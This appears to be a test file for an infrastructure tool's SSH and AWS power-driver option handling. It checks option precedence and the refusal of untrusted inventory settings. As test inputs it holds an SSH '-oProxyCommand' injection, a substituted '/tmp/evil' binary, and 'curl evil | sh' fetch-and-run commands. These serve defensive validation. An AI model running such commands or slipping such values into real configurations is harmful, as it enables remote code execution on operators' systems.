import { describe, expect, it } from 'vitest';
import { parseInventory, type InventoryInput } from '../../../topology/index.js';
import { powerDrivers } from '../../../cli/wiring/powerWiring.js';
import { SshPowerDriver, AwsPowerDriver, sshArgv } from '../../../drivers/power/index.js';
import { errorOf } from '../../fixtures/errorOf.js';

const base: InventoryInput = {
  name: 'dc',
  tiers: { app: { kind: 'http' } },
  placement: { maxPerRack: 1, minZones: 1 },
  hosts: [
    { name: 'app-1', tier: 'app', zone: 'dc1', rack: 'r1', address: '10.0.0.1', services: { http: 80 } },
    { name: 'app-2', tier: 'app', zone: 'dc1', rack: 'r2', address: '10.0.0.2', services: { http: 80 }, power: 'aws', id: 'i-0123456789abcdef0' },
  ],
  drivers: { ssh: { user: 'ops', port: 2222, jumpHost: 'ops@bastion.example.com' }, aws: { region: 'eu-west-1', uptimeSource: 'ssm' } },
};
const inv = parseInventory(base, 'dc.yaml');
const app1 = inv.hosts[0]!;
const app2 = inv.hosts[1]!;


describe('power driver options: the inventory, then environment variables, then flags', () => {
  it('takes the inventory\'s drivers section, and one driver per kind', () => {
    const power = powerDrivers(inv, {}, { sshTrustInventory: true });
    const ssh = power(app1) as SshPowerDriver;
    expect(ssh).toBe(power(app1));
    expect(ssh.options).toMatchObject({ user: 'ops', port: 2222, jumpHost: 'ops@bastion.example.com' });
    expect(sshArgv(ssh.options, app1.address, 'true')).toEqual(expect.arrayContaining(['-J', 'ops@bastion.example.com', '-p', '2222', '-l', 'ops']));
    expect((power(app2) as AwsPowerDriver).options).toMatchObject({ region: 'eu-west-1', uptimeSource: 'ssm' });
  });

  it('lets a variable override the inventory and a flag override both', () => {
    const env = { GAMEDAY_SSH_USER: 'deploy', GAMEDAY_SSH_PORT: '22', GAMEDAY_AWS_UPTIME: 'launch-time' };
    const power = powerDrivers(inv, { ...env, GAMEDAY_SSH_TRUST_INVENTORY: '1' }, { sshUser: 'oncall', sshKey: '/home/oncall/.ssh/id_ed25519' });
    expect((power(app1) as SshPowerDriver).options).toMatchObject({ user: 'oncall', port: 22, identityFile: '/home/oncall/.ssh/id_ed25519', jumpHost: 'ops@bastion.example.com' });
    expect((power(app2) as AwsPowerDriver).options.uptimeSource).toBe('launch-time');
  });

  it('names the field and where a bad value came from', () => {
    const fromInventory = errorOf(() => powerDrivers(parseInventory({ ...base, drivers: { ssh: { port: 70000 } } }, 'dc.yaml'), {}));
    expect(fromInventory.code).toBe('BAD_DRIVER_OPTION');
    expect(fromInventory.input).toBe('inventory drivers.ssh.port');
    expect(errorOf(() => powerDrivers(inv, { GAMEDAY_SSH_PORT: 'x', GAMEDAY_SSH_TRUST_INVENTORY: '1' })).input).toBe('environment variable GAMEDAY_SSH_PORT');
    const fromFlag = errorOf(() => powerDrivers(inv, {}, { sshJump: '-oProxyCommand=touch /tmp/x', sshTrustInventory: true }));
    expect(fromFlag.input).toBe('--ssh-jump');
    expect(fromFlag.message).toContain('must be [user@]host[:port]');
    expect(errorOf(() => powerDrivers(inv, {}, { awsUptime: 'guess', sshTrustInventory: true })).input).toBe('--aws-uptime');
    expect(errorOf(() => powerDrivers(parseInventory({ ...base, drivers: { ssh: { sshBinary: '/tmp/evil' } } }, 'dc.yaml'), {})).input).toBe('inventory drivers.ssh.sshBinary');
  });

  it("refuses the inventory's own rebootCommand, configFile, jumpHost and hostKeyChecking off unless the operator trusts it (before: taken as given)", () => {
    for (const [key, value] of [['rebootCommand', ['sh', '-c', 'curl evil | sh']], ['configFile', '/tmp/ssh_config'], ['jumpHost', 'ops@bastion.example.com'], ['hostKeyChecking', 'off'], ['fenceCommand', ['sh', '-c', 'curl evil | sh']], ['fenceHost', 'evil.example.com']] as const) {
      const risky = parseInventory({ ...base, drivers: { ssh: { [key]: value } } }, 'dc.yaml');
      const err = errorOf(() => powerDrivers(risky, {}));
      expect(err.code).toBe('INVENTORY_NOT_TRUSTED');
      expect(err.input).toBe(`inventory drivers.ssh.${key}`);
      expect(() => powerDrivers(risky, {}, { sshTrustInventory: true })).not.toThrow();
    }
    expect(() => powerDrivers(parseInventory({ ...base, drivers: { ssh: { hostKeyChecking: 'accept-new' } } }, 'dc.yaml'), {})).not.toThrow();
    // The same settings from the operator's own environment need no trust.
    expect(() => powerDrivers(parseInventory({ ...base, drivers: {} }, 'dc.yaml'), { GAMEDAY_SSH_JUMP_HOST: 'ops@bastion.example.com' })).not.toThrow();
  });
});
